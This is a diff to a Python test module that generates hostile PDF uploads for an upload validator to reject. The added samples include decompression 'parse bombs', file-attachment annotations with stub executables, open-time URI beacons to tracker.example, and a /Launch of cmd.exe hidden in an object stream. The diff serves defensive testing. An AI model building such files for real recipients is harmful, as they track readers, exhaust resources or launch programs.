@@ -1,13 +1,16 @@
 """A corpus of hostile "PDF" uploads, generated in memory (tests only).
 
 `corpus(size_limit)` returns HostileFile items in families: not a PDF, truncated, active content
-(JavaScript, launch actions, embedded files...), encrypted, empty, too big, page bombs, polyglots,
+(JavaScript, launch actions, embedded and attached files, actions run on opening...), encrypted,
+empty, too big, page bombs, parse bombs (streams that inflate to tens of megabytes), polyglots,
 and hostile file names. Every item but the "name" family must be refused by the upload check; a
 hostile name on a good PDF may instead be neutralised (stored under a generated name).
 """
 
+import functools
 import io
 import zipfile
+import zlib
 from dataclasses import dataclass
 
 from pypdf import PdfWriter
@@ -69,6 +72,84 @@ def one_page_pdf(
         *(extra_objects or []),
     ]
     return raw_pdf(objects)
+
+
+def deflated(data: bytes, *, padding: int = 0) -> bytes:
+    """`data` then `padding` spaces, compressed by chunks: a 74 MB padding costs 75 KB and no 74 MB buffer."""
+    compressor = zlib.compressobj(9)
+    parts = [compressor.compress(data)]
+    chunk = b" " * (1 << 20)
+    for start in range(0, padding, len(chunk)):
+        parts.append(compressor.compress(chunk[: padding - start]))
+    parts.append(compressor.flush())
+    return b"".join(parts)
+
+
+def object_stream_pdf(
+    compressed: dict[int, bytes],
+    plain: dict[int, bytes] | None = None,
+    *,
+    padding: int = 0,
+    xref_padding: int = 0,
+    declared_objects: int | None = None,
+) -> bytes:
+    """A PDF 1.5 whose `compressed` objects live in one Flate object stream, found through an xref stream.
+
+    `padding` spaces follow the objects inside the object stream, `xref_padding` bytes follow the
+    entries of the xref stream: both inflate when a reader opens the file. `declared_objects`
+    overrides the object stream's /N (the number of objects it claims to hold).
+    """
+    plain = plain or {}
+    stream_number = max([*compressed, *plain]) + 1
+    xref_number = stream_number + 1
+    header, body, length = [], [], 0
+    for number, text in compressed.items():
+        header.append(b"%d %d " % (number, length))
+        body.append(text + b"\n")
+        length += len(text) + 1
+    inflated = deflated(b"".join(header) + b"".join(body), padding=padding)
+    count = declared_objects if declared_objects is not None else len(compressed)
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number, text in plain.items():
+        offsets[number] = out.tell()
+        out.write(b"%d 0 obj\n" % number + text + b"\nendobj\n")
+    offsets[stream_number] = out.tell()
+    out.write(
+        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (stream_number, count, len(b"".join(header)), len(inflated))
+        + inflated
+        + b"\nendstream\nendobj\n"
+    )
+    offsets[xref_number] = out.tell()
+    size = xref_number + 1
+    indexes = {number: index for index, number in enumerate(compressed)}
+    rows = [b"\x00" * 5 + b"\xff\xff\xff\xff"]
+    for number in range(1, size):
+        if number in indexes:
+            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + indexes[number].to_bytes(4, "big"))
+        elif number in offsets:
+            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00" * 4)
+        else:
+            rows.append(b"\x00" * 9)
+    xref_data = deflated(b"".join(rows), padding=xref_padding)
+    out.write(
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
+        % (xref_number, size, len(xref_data))
+        + b"stream\n"
+        + xref_data
+        + b"\nendstream\nendobj\n"
+    )
+    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
+    return out.getvalue()
+
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE_WITH_ANNOTATION = (
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>"
+)
 
 
 def good_pdf(pages: int = 3) -> bytes:
@@ -196,6 +277,77 @@ def active_content() -> list[HostileFile]:
             b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "
         ),
         "ImportData": one_page_pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >> "),
+        # A file attached to a page (/FileAttachment annotation), its bytes under /EF: no /Type needed.
+        "FileAttachment annotation carrying an executable": one_page_pdf(
+            page=PAGE_WITH_ANNOTATION,
+            extra_objects=[
+                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
+                b"<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 7 0 R >> >>",
+                b"<< /Length 2 >>\nstream\nMZ\nendstream",
+            ],
+        ),
+        "FileAttachment annotation hidden in an object stream": object_stream_pdf(
+            {
+                1: CATALOG,
+                2: PAGES,
+                3: PAGE_WITH_ANNOTATION,
+                5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
+                6: b"<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>",
+            },
+            {4: CONTENT, 7: b"<< /Length 2 >>\nstream\nMZ\nendstream"},
+        ),
+        "file specification with /EF in a link": one_page_pdf(
+            page=PAGE_WITH_ANNOTATION,
+            extra_objects=[
+                b"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /GoTo /D [3 0 R /Fit] >> "
+                b"/FS << /F (x.exe) /EF << /F 6 0 R >> >> >>",
+                b"<< /Length 2 >>\nstream\nMZ\nendstream",
+            ],
+        ),
+        # Reports when and where the file is opened: an action run on opening, not a click.
+        "OpenAction URI": one_page_pdf(
+            b"/OpenAction << /S /URI /URI (https://tracker.example/open?dossier=42) >> "
+        ),
+        "OpenAction URI by reference": one_page_pdf(
+            b"/OpenAction 5 0 R ", extra_objects=[b"<< /S /URI /URI (https://tracker.example/o) >>"]
+        ),
+        "OpenAction URI in an object stream": object_stream_pdf(
+            {
+                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+                2: PAGES,
+                3: PAGE,
+                5: b"<< /S /URI /URI (https://tracker.example/o) >>",
+            },
+            {4: CONTENT},
+        ),
+        "OpenAction GoTo chained to a URI (/Next)": one_page_pdf(
+            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/o) >> >> "
+        ),
+        "OpenAction Rendition": one_page_pdf(b"/OpenAction << /S /Rendition /OP 0 >> "),
+        "OpenAction Named Print": one_page_pdf(b"/OpenAction << /S /Named /N /Print >> "),
+        "page additional action URI on open": one_page_pdf(
+            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+            b"/AA << /O << /S /URI /URI (https://tracker.example/p) >> >> >>"
+        ),
+        "catalog additional action URI on close": one_page_pdf(
+            b"/AA << /WC << /S /URI /URI (https://tracker.example/c) >> >> "
+        ),
+        "annotation additional action URI on view": one_page_pdf(
+            page=PAGE_WITH_ANNOTATION,
+            extra_objects=[
+                b"<< /Type /Annot /Subtype /Widget /Rect [0 0 595 842] "
+                b"/AA << /PV << /S /URI /URI (https://tracker.example/w) >> >> >>"
+            ],
+        ),
+        "page additional action in an object stream": object_stream_pdf(
+            {
+                1: CATALOG,
+                2: PAGES,
+                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+                b"/AA << /O << /S /Launch /F (cmd.exe) >> >> >>",
+            },
+            {4: CONTENT},
+        ),
     }
     writer = PdfWriter()
     writer.add_blank_page(width=595, height=842)
@@ -300,6 +452,29 @@ def page_bombs() -> list[HostileFile]:
     ]
 
 
+@functools.cache
+def parse_bombs() -> list[HostileFile]:
+    """Small files that inflate to tens of megabytes, or claim absurd object counts, when opened."""
+    objects = {1: CATALOG, 2: PAGES, 3: PAGE}
+    variants = {
+        # The attack: 75 KB on disk, an object stream of 74 MB once inflated.
+        "object stream inflating to 74 MB": object_stream_pdf(objects, {4: CONTENT}, padding=74_000_000),
+        "object stream inflating to 20 MB": object_stream_pdf(objects, {4: CONTENT}, padding=20_000_000),
+        "xref stream inflating to 74 MB": object_stream_pdf(objects, {4: CONTENT}, xref_padding=74_000_000),
+        "object stream claiming 10 000 000 objects": object_stream_pdf(
+            objects, {4: CONTENT}, declared_objects=10_000_000
+        ),
+        "25 000 objects in an object stream": object_stream_pdf(
+            {**objects, **{number: b"<< >>" for number in range(5, 25_005)}}, {4: CONTENT}
+        ),
+    }
+    return [
+        HostileFile("parse bomb", variant, name, data)
+        for variant, data in variants.items()
+        for name in NAMES[:2]
+    ]
+
+
 def polyglots() -> list[HostileFile]:
     pdf = good_pdf(1)
     variants = {
@@ -352,6 +527,7 @@ def corpus(size_limit: int) -> list[HostileFile]:
         *empty(),
         *too_big(size_limit),
         *page_bombs(),
+        *parse_bombs(),
         *polyglots(),
         *hostile_names(),
     ]
